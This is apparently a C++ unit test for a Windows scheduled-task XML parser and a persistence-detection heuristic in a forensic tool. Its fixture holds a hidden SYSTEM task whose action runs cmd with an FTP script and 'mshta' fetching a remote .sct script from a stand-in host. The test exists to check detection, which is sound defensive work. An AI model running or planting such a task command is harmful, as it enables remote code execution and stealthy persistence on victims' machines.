#include "formats/task_xml/task_xml.h"

#include <gtest/gtest.h>

#include "detect/heuristics/windows_persistence.h"
#include "normalize/windows_tasks.h"

namespace msw::formats::task_xml {
namespace {

// As Windows writes a task file: UTF-16LE with a BOM, the Task Scheduler namespace.
std::string utf16_file(const std::string& ascii) {
  std::string s = "\xff\xfe";
  for (char c : ascii) {
    s += c;
    s += '\0';
  }
  return s;
}

const char* kMysa = R"(<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Date>2019-03-04T03:12:00</Date><Author>Microsoft</Author><URI>\Mysa</URI></RegistrationInfo>
  <Triggers>
    <TimeTrigger><Repetition><Interval>PT1H</Interval></Repetition><StartBoundary>2019-03-04T03:12:00</StartBoundary><Enabled>true</Enabled></TimeTrigger>
    <BootTrigger><Enabled>true</Enabled></BootTrigger>
  </Triggers>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Settings><Hidden>true</Hidden><Enabled>true</Enabled></Settings>
  <Actions Context="Author">
    <Exec><Command>cmd.exe</Command><Arguments>/c echo open ftp.ftp1202.site&gt;s&amp;cmd /c mshta http://js.example.top:280/v.sct</Arguments></Exec>
  </Actions>
</Task>)";

TEST(TaskXml, Utf16TaskWithTriggersAndActions) {
  const std::string file = utf16_file(kMysa);
  auto t = parse(as_bytes(file), "Mysa");
  ASSERT_TRUE(t) << t.error().message;
  EXPECT_EQ(t->uri, "\\Mysa");
  EXPECT_EQ(t->author, "Microsoft");
  EXPECT_EQ(t->user_id, "S-1-5-18");
  EXPECT_EQ(t->run_level, "HighestAvailable");
  EXPECT_TRUE(t->hidden);
  ASSERT_EQ(t->exec.size(), 1u);
  EXPECT_EQ(t->exec[0].command, "cmd.exe");
  EXPECT_EQ(t->exec[0].arguments, "/c echo open ftp.ftp1202.site>s&cmd /c mshta http://js.example.top:280/v.sct");
  EXPECT_EQ(describe_triggers(*t), "Time 2019-03-04T03:12:00 every PT1H; Boot");
  // Not a task, not XML, too large.
  EXPECT_EQ(parse(as_bytes(std::string("<a/>")), "x").error().code, "task.not_task");
  EXPECT_EQ(parse(as_bytes(std::string("<Task><")), "x").error().code, "task.not_xml");
  EXPECT_EQ(parse(as_bytes(std::string(kMaxTaskBytes + 1, ' ')), "x").error().code, "task.too_large");
}

TEST(TaskXml, EventsAndTheHeuristic) {
  const std::string file = utf16_file(kMysa);
  std::vector<model::Event> events;
  ASSERT_TRUE(normalize::scheduled_task_events(as_bytes(file), "triage/C/Windows/System32/Tasks/Mysa", events));
  ASSERT_EQ(events.size(), 1u);
  const model::Event& e = events[0];
  EXPECT_EQ(e.category, "scheduled_task");
  EXPECT_EQ(e.value("TaskName"), "\\Mysa");
  EXPECT_EQ(e.value("Image"), "cmd.exe");
  EXPECT_EQ(e.value("TaskHidden"), "true");
  std::vector<model::Finding> found;
  detect::heuristics::make_windows_persistence_engine()->scan_artefact({"Mysa", "", "scheduled_task", "", "", events}, found);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].rule_id, detect::heuristics::kTaskSuspiciousRule);
  EXPECT_NE(found[0].title_en.find("mshta fetching a remote script"), std::string::npos) << found[0].title_en;
  // A Microsoft maintenance task running from System32 is not.
  const std::string ok = utf16_file(R"(<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions>
    <Exec><Command>%windir%\system32\defrag.exe</Command><Arguments>-c -h -o</Arguments></Exec></Actions></Task>)");
  events.clear();
  ASSERT_TRUE(normalize::scheduled_task_events(as_bytes(ok), "C/Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag", events));
  EXPECT_EQ(events[0].value("TaskName"), "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag");
  found.clear();
  detect::heuristics::make_windows_persistence_engine()->scan_artefact({"x", "", "scheduled_task", "", "", events}, found);
  EXPECT_TRUE(found.empty());
}

}  // namespace
}  // namespace msw::formats::task_xml
